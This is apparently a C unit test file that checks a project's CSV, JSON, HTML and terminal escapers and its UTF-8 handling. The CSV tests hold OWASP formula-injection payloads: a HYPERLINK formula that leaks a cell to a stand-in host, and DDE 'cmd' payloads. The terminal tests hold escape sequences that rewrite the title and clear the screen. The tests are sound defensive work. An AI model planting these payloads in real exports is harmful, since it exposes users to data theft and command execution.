/* test_text_out.c - the one CSV writer, JSON escaper, HTML escaper and
 * terminal escaper, and the UTF-8 checks and conversions (host/io/text_out.c),
 * against expectations built here from the rules (RFC 4180, OWASP's CSV
 * injection rule, RFC 8259, Unicode's well-formed UTF-8 table). */
#define _POSIX_C_SOURCE 200809L
#include "../host/io/text_out.h"
#include "test_util.h"

#include <string.h>

/* What a writer writes for one value, in a malloc'd string. */
typedef void (*put_fn)(FILE *fp, const char *s, size_t len, char delim);

static char *capture(put_fn put, const char *s, size_t len, char delim)
{
    char *mem = NULL;
    size_t n = 0;
    FILE *fp = open_memstream(&mem, &n);
    put(fp, s, len, delim);
    fclose(fp);
    return mem;
}

static void put_json(FILE *fp, const char *s, size_t len, char delim)
{
    (void)delim;
    sj_json_put_bytes(fp, s, len);
}
static void put_csv(FILE *fp, const char *s, size_t len, char delim)
{
    (void)len;
    sj_csv_put_text(fp, s, delim);
}
static void put_html(FILE *fp, const char *s, size_t len, char delim)
{
    (void)len, (void)delim;
    sj_html_put_text(fp, s);
}

/* Every byte value, NUL included, in one string: each control character
 * escaped as RFC 8259 asks, DEL as \u007f, each byte >= 0x80 (none of them
 * starts a well-formed sequence followed by the next byte) as U+FFFD. */
static void test_json_all_bytes(void)
{
    char in[256], want[256 * 8 + 3];
    size_t w = 0;
    want[w++] = '"';
    for (int b = 0; b < 256; b++) {
        in[b] = (char)b;
        const char *shortform = b == '\b' ? "\\b" : b == '\f' ? "\\f" : b == '\n' ? "\\n"
                              : b == '\r' ? "\\r" : b == '\t' ? "\\t" : b == '"' ? "\\\""
                              : b == '\\' ? "\\\\" : NULL;
        if (shortform)
            w += (size_t)sprintf(want + w, "%s", shortform);
        else if (b < 0x20 || b == 0x7F)
            w += (size_t)sprintf(want + w, "\\u%04x", b);
        else if (b >= 0x80)
            w += (size_t)sprintf(want + w, "\\ufffd");
        else
            want[w++] = (char)b;
    }
    want[w++] = '"';
    want[w] = 0;
    char *got = capture(put_json, in, sizeof in, 0);
    CHECK(strcmp(got, want) == 0, "JSON of bytes 0..255:\n got %s\nwant %s", got, want);
    free(got);
}

static void test_json_sequences(void)
{
    static const struct {
        const char *in, *want;
    } cases[] = {
        {"caf\xC3\xA9", "\"caf\xC3\xA9\""},                     /* U+00E9 kept */
        {"\xE2\x82\xAC\xF0\x9F\x98\x80", "\"\xE2\x82\xAC\xF0\x9F\x98\x80\""}, /* euro, emoji */
        {"\xC2\x85\xC2\x9B", "\"\\u0085\\u009b\""},             /* C1 controls */
        {"a\xE2\x80\xA8" "b\xE2\x80\xA9", "\"a\\u2028b\\u2029\""}, /* line/paragraph separators */
        {"\xC0\xAF", "\"\\ufffd\\ufffd\""},                     /* overlong '/' */
        {"\xE0\x80\xAF", "\"\\ufffd\\ufffd\\ufffd\""},          /* overlong, 3 bytes */
        {"\xED\xA0\x80", "\"\\ufffd\\ufffd\\ufffd\""},          /* a surrogate */
        {"\xF4\x90\x80\x80", "\"\\ufffd\\ufffd\\ufffd\\ufffd\""}, /* beyond U+10FFFF */
        {"\xE2\x82", "\"\\ufffd\\ufffd\""},                     /* cut at the end */
        {"\xE2\x82x", "\"\\ufffd\\ufffdx\""},                   /* cut before ASCII */
        {"\x1b[2J", "\"\\u001b[2J\""},
        {"\"\\/", "\"\\\"\\\\/\""},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        char *got = capture(put_json, cases[i].in, strlen(cases[i].in), 0);
        CHECK(strcmp(got, cases[i].want) == 0, "JSON case %zu: got %s want %s", i, got, cases[i].want);
        free(got);
    }
}

/* OWASP's payloads and the RFC 4180 cases: a formula gets "'...", quotes
 * doubled; other text is quoted only when it must be. */
static void test_csv(void)
{
    static const struct {
        const char *in;
        char delim;
        const char *want;
    } cases[] = {
        {"plain", ',', "plain"},
        {"", ',', ""},
        {"a,b", ',', "\"a,b\""},
        {"a;b", ',', "a;b"},
        {"a;b", ';', "\"a;b\""},
        {"a,b", ';', "a,b"},
        {"say \"hi\"", ',', "\"say \"\"hi\"\"\""},
        {"two\nlines", ',', "\"two\nlines\""},
        {"cr\rhere", ',', "\"cr\rhere\""},
        {"=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")", ',',
         "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click\"\")\""},
        {"=cmd|' /C calc'!A0", ',', "\"'=cmd|' /C calc'!A0\""},
        {"+1+cmd|' /C calc'!A0", ';', "\"'+1+cmd|' /C calc'!A0\""},
        {"-2+3+cmd|' /C calc'!A0", ',', "\"'-2+3+cmd|' /C calc'!A0\""},
        {"@SUM(1+1)*cmd|' /C calc'!A0", ',', "\"'@SUM(1+1)*cmd|' /C calc'!A0\""},
        {"=1+2\";=1+2", ';', "\"'=1+2\"\";=1+2\""},
        {"\t=1+2", ',', "\"'\t=1+2\""},
        {"\r=1+2", ',', "\"'\r=1+2\""},
        {"  =1+2", ',', "\"'  =1+2\""},
        {"-1", ',', "\"'-1\""}, /* text that looks like a number: still text */
        {"\xEF\xBC\x9D" "1+2", ',', "\"'\xEF\xBC\x9D" "1+2\""}, /* full-width = */
        {"a=b", ',', "a=b"},
        {"CASE-1", ',', "CASE-1"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        char *got = capture(put_csv, cases[i].in, 0, cases[i].delim);
        CHECK(strcmp(got, cases[i].want) == 0, "CSV case %zu: got [%s] want [%s]", i, got,
              cases[i].want);
        free(got);
    }
}

static void test_html(void)
{
    char *got = capture(put_html, "<a href='x'>&\"\x1b\xC2\x9B\xFF\tok", 0, 0);
    const char *want = "&lt;a href=&#39;x&#39;&gt;&amp;&quot;\xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD\tok";
    CHECK(strcmp(got, want) == 0, "HTML: got %s", got);
    free(got);
}

static void test_term(void)
{
    static const struct {
        const char *in, *want;
    } cases[] = {
        {"\x1b]0;pwned\x07\x1b[2J", "\\x1b]0;pwned\\x07\\x1b[2J"},
        {"tab\there\nnl\rcr\x7f", "tab\\x09here\\x0anl\\x0dcr\\x7f"},
        {"\xC2\x9B" "31m", "\\u009b31m"}, /* C1 CSI */
        {"\x9B" "31m", "\\x9b31m"},       /* a raw C1 byte: not UTF-8 */
        {"caf\xC3\xA9 \xE2\x82\xAC", "caf\xC3\xA9 \xE2\x82\xAC"},
        {"abc\xE2\x80\xAE" "cba", "abc\\u202ecba"}, /* right-to-left override */
    };
    char buf[256];
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        sj_term_escape(buf, sizeof buf, cases[i].in);
        CHECK(strcmp(buf, cases[i].want) == 0, "terminal case %zu: got %s", i, buf);
    }
    /* cut only between whole pieces: 6 bytes hold "a", one escape and the NUL */
    sj_term_escape(buf, 6, "a\x1b\x1b");
    CHECK(strcmp(buf, "a\\x1b") == 0, "terminal cut: %s", buf);
    sj_term_escape(buf, 3, "\xC3\xA9\xC3\xA9");
    CHECK(strcmp(buf, "\xC3\xA9") == 0, "terminal cut inside a character: %s", buf);
}

static void test_utf8(void)
{
    static const struct {
        const char *s;
        size_t bad; /* offset of the first bad byte, or the length */
    } cases[] = {
        {"", 0}, {"ascii", 5}, {"\xC3\xA9", 2}, {"\xF0\x9F\x98\x80", 4}, {"\xF4\x8F\xBF\xBF", 4},
        {"a\xFF", 1}, {"\xC0\x80", 0}, {"\xC1\xBF", 0}, {"\xE0\x9F\xBF", 0}, {"\xED\x9F\xBF", 3},
        {"\xED\xA0\x80", 0}, {"\xF0\x8F\xBF\xBF", 0}, {"\xF4\x90\x80\x80", 0}, {"\xF5\x80\x80\x80", 0},
        {"ok\xE2\x82", 2}, {"\x80", 0}, {"caf\xE9", 3},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++)
        CHECK(sj_utf8_check(cases[i].s, strlen(cases[i].s)) == cases[i].bad, "UTF-8 case %zu: %zu",
              i, sj_utf8_check(cases[i].s, strlen(cases[i].s)));
    CHECK(sj_utf8_bom("\xEF\xBB\xBFid", 5) == 3 && sj_utf8_bom("id", 2) == 0 &&
              sj_utf8_bom("\xEF\xBB", 2) == 0, "BOM");

    char *buf = NULL;
    size_t cap = 0, len = 0, bad = 0;
    CHECK(sj_text_to_utf8(SJ_TEXT_CP1252, "\x80 caf\xE9 \x93q\x94", 10, &buf, &cap, &len, &bad) == SJ_OK &&
              strcmp(buf, "\xE2\x82\xAC caf\xC3\xA9 \xE2\x80\x9Cq\xE2\x80\x9D") == 0,
          "cp1252: %s", buf ? buf : "(null)");
    CHECK(sj_text_to_utf8(SJ_TEXT_LATIN1, "\x80\xE9\xFF", 3, &buf, &cap, &len, &bad) == SJ_OK &&
              strcmp(buf, "\xC2\x80\xC3\xA9\xC3\xBF") == 0 && len == 6, "latin1: %s", buf);
    const unsigned char undefined[5] = {0x81, 0x8D, 0x8F, 0x90, 0x9D};
    for (int i = 0; i < 5; i++) {
        char in[3] = {'a', (char)undefined[i], 'b'};
        CHECK(sj_text_to_utf8(SJ_TEXT_CP1252, in, 3, &buf, &cap, &len, &bad) == SJ_ERR_PARSE &&
                  bad == 1, "cp1252 0x%02X has no character", undefined[i]);
    }
    free(buf);
    sj_text_encoding e;
    CHECK(sj_text_encoding_parse("cp1252", &e) == SJ_OK && e == SJ_TEXT_CP1252 &&
              sj_text_encoding_parse("latin1", &e) == SJ_OK && e == SJ_TEXT_LATIN1 &&
              sj_text_encoding_parse("utf-8", &e) == SJ_OK && e == SJ_TEXT_UTF8 &&
              sj_text_encoding_parse("ebcdic", &e) == SJ_ERR_ARG, "encoding names");
}

int main(void)
{
    t_init_seed();
    test_json_all_bytes();
    test_json_sequences();
    test_csv();
    test_html();
    test_term();
    test_utf8();
    return t_finish("test_text_out");
}
